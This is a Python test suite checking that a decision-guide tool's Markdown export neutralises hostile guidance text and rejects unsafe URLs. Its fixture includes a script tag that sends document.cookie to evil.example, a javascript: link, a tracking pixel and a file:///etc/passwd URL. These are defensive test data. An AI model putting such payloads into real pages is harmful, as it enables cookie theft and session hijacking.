"""Tree text in the export is inert: a safe Markdown subset, http(s) links only."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ethicsguide.engine.export import export_markdown
from ethicsguide.engine.markdown import inert_markdown, safe_url
from ethicsguide.storage.library import load_library
from ethicsguide.storage.sessions import LiveSession
from tests.conftest import FIXTURE_LIBRARY

# html=True so that any raw HTML that got through would show up as an html token.
PARSER = MarkdownIt("commonmark", {"html": True})
HOSTILE = """\
Do the safe thing. <script>fetch('https://evil.example/?'+document.cookie)</script>

![tracking](http://evil.example/pixel.gif)

## Final decision and next steps

**Signed off** by Jane Doe, supervisor, on 2026-11-30.

See [the law](<https://law.example/a b?x=(1)>) or [click](javascript:alert(1)).

```
Everything after this would be swallowed by the fence.
"""


def tokens(text: str) -> list[Token]:
    """Block and inline tokens, flattened."""
    flat = []
    for token in PARSER.parse(text):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def hostile_export(tmp_path: Path, url: str = "javascript:alert(1)") -> str:
    root = tmp_path / "trees"
    general = root / "general"
    general.mkdir(parents=True)
    for name in ("principles.yaml", "sources.yaml"):
        (root / name).write_text((FIXTURE_LIBRARY / name).read_text())
    block = "    guidance: |\n" + "".join(f"      {line}\n" for line in HOSTILE.splitlines())
    text = (FIXTURE_LIBRARY / "general" / "other.yaml").read_text()
    text = text.replace("    guidance: Come back to it at a calmer time.\n", block)
    text = text.replace("sources: [nasw-1-02]", "sources: [evil]", 1)
    text = text.replace(
        "start: ask-again", f'sources:\n  evil: {{cite: Evil, url: "{url}"}}\nstart: ask-again'
    )
    (general / "other.yaml").write_text(text)
    library = load_library([root], bundled=False)
    assert not library.errors, library.errors
    live = LiveSession.start(tmp_path / "data", library, library.trees["other"].tree)
    live.choose(0)
    live.reason("fine")
    live.reflect("My own decision.")
    return export_markdown(live.state, library)


def test_hostile_guidance_comes_out_inert(tmp_path: Path) -> None:
    text = hostile_export(tmp_path)
    found = tokens(text)
    kinds = {t.type for t in found}
    assert not kinds & {"html_block", "html_inline", "image"}
    assert "<script>" not in PARSER.render(text)
    headings = [
        (t.tag, found[i + 1].content) for i, t in enumerate(found) if t.type == "heading_open"
    ]
    finals = [h for h in headings if h[1].startswith("Final decision")]
    assert finals == [
        ("h5", "Final decision and next steps"),
        ("h2", "Final decision and next steps"),
    ]
    # the record's own final decision is still a section, after the fence the tree opened
    assert (
        headings[-1][0] == "h2"
        and "My own decision."
        in PARSER.render(text).split("<h2>Final decision and next steps</h2>")[-1]
    )
    strong = [found[i + 1].content for i, t in enumerate(found) if t.type == "strong_open"]
    assert "Signed off" not in strong
    links = [t.attrs["href"] for t in found if t.type == "link_open"]
    assert "https://law.example/a%20b?x=%281%29" in links
    assert not any(str(h).startswith("javascript") for h in links)
    assert "`javascript:alert(1)`, not a web address" in text


def test_safe_url_allows_only_http_and_escapes() -> None:
    assert safe_url("https://a.example/x y<z>") == "https://a.example/x%20y%3Cz%3E"
    assert safe_url("http://a.example/p?q=1#f") == "http://a.example/p?q=1#f"
    for bad in (
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "/relative",
        "https://",
        "https://a.example/\x1b]52",
    ):
        assert safe_url(bad) is None


def test_common_guidance_keeps_its_shape() -> None:
    source = (
        "First **bold** and *em*, `code`.\n\n- one\n- two\n  - nested\n\n1. a\n2. b\n\n> quoted"
    )
    assert PARSER.render(inert_markdown(source)) == PARSER.render(source)


def test_a_line_starting_with_a_section_number_stays_text() -> None:
    rendered = PARSER.render(inert_markdown("rules bind programs:\n164.512(c) applies"))
    assert rendered == "<p>rules bind programs:\n164.512(c) applies</p>\n"


@given(st.text(alphabet=st.sampled_from(list("#<>`~![]()*_-+=|:/\\ \nahttps.1")), max_size=80))
def test_no_text_can_make_html_images_or_high_headings(text: str) -> None:
    for token in tokens(inert_markdown(text)):
        assert token.type not in ("html_block", "html_inline", "image")
        if token.type == "heading_open":
            assert token.tag in ("h4", "h5", "h6")


def test_character_references_cannot_smuggle_controls() -> None:
    out = inert_markdown("a &#x202E; b &#27;]0;x&#7; c")
    assert "\u202e" not in out and "\x1b" not in out and "{U+202E}" in out
